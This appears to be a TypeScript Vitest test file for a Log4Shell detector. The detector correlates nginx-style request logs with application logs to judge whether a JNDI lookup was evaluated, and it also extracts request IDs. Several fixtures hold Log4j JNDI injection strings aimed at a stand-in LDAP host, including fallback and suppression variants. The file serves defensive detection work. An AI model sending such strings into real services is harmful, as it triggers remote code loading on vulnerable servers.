import { describe, expect, test } from 'vitest'
import { joinedWith, saidOf } from '../../../test/kit/joining.ts'
import { requestIdsIn } from './request-joins.ts'

const id = '7f3c2a10-5b1e-4c8e-9a53-0d2f6b7c8d9e'
const other = '00000000-5b1e-4c8e-9a53-0d2f6b7c8d9e'
const laundering = '${jndi:ldap://x.evil.example/a:-Mozilla/5.0 (compatible)}'
const suppression = '${jndi:ldap://x.evil.example/a}${java:x}'

const request = (agent: string, at = '12:00:00', of = id): string =>
  `${JSON.stringify({ time: `2021-12-10T${at}Z`, remote_addr: '203.0.113.9', request_id: of, request: 'GET /login', http_user_agent: agent })}\n`
const app = (message: string, at = '12:00:01', of = id): string =>
  `2021-12-10 ${at},123 INFO [http-1] c.e.Login - [${of}] ${message}\n`

describe('what another log has of the request of an attack', () => {
  test('the text that Log4j writes instead, which only evaluation makes: it likely fired', () => {
    const { findings } = joinedWith(request(laundering), { 'app.log': app('login by Mozilla/5.0 (compatible)') })

    expect(findings[0]?.outcome).toBe('likely')
    expect(saidOf(findings[0])).toEqual([
      'a record of the same request has "Mozilla/5.0 (compatible)" in its place, 1.1 s after it; which is what a Log4j writes that evaluated it',
    ])
  })

  test('the attack as it came, which says that it was not evaluated there', () => {
    const { findings } = joinedWith(request(laundering), { 'app.log': app(`login by ${laundering}`) })

    expect(findings[0]?.outcome).toBe('attempt')
    expect(saidOf(findings[0])[0]).toMatch(
      /^a record of the same request has it as it came, 1\.1 s after it; whatever wrote/,
    )
  })

  test('records without it, where Log4j would lose the line: that is told, and no more than that', () => {
    const { findings } = joinedWith(request(suppression), { 'app.log': app('begins') + app('ends', '12:00:02') })

    expect(findings[0]?.traits).toContain('suppression')
    expect(findings[0]?.outcome).toBe('attempt')
    expect(saidOf(findings[0])[0]).toMatch(
      /^2 records of the same request, and none that has it, 1\.1 s after it; a Log4j/,
    )
  })

  test('undone escapes are compared, not what was written', () => {
    const written = encodeURIComponent(laundering)
    const { findings } = joinedWith(request(`x=${written}`), { 'app.log': app('login by Mozilla/5.0 (compatible)') })

    expect(findings[0]?.outcome).toBe('likely')
  })

  test.each([
    ['of another request', request(laundering), app('login by Mozilla/5.0 (compatible)', '12:00:01', other)],
    ['long after', request(laundering), app('login by Mozilla/5.0 (compatible)', '13:00:00')],
    ['that have neither', request(laundering), app('begins')],
    ['of an attack that leaves its line as it is', request('${jndi:ldap://x.evil.example/a}'), app('begins')],
  ])('nothing is said of records %s', (_case, attacks, log) => {
    const { findings } = joinedWith(attacks, { 'app.log': log })

    expect(findings[0]?.outcome).toBe('attempt')
    expect(saidOf(findings[0])).toEqual([])
  })
})

test.each([
  ['a UUID', `"id":"${id.toUpperCase()}"`, [id]],
  [
    '32 digits, as nginx and W3C traces have them',
    'rid=4bf92f3577b34da6a3ce929d0e0e4736 ',
    ['4bf92f3577b34da6a3ce929d0e0e4736'],
  ],
  ['an id of AWS', 'Root=1-5759e988-bd862e3fe1be46a994272793', ['1-5759e988-bd862e3fe1be46a994272793']],
  ['a part of a longer number', '4bf92f3577b34da6a3ce929d0e0e47361 x-4bf92f3577b34da6a3ce929d0e0e4736', []],
  ['no id', 'request_id=12345', []],
])('ids of requests: %s', (_case, text, ids) => {
  expect(requestIdsIn(text)).toEqual(ids)
})
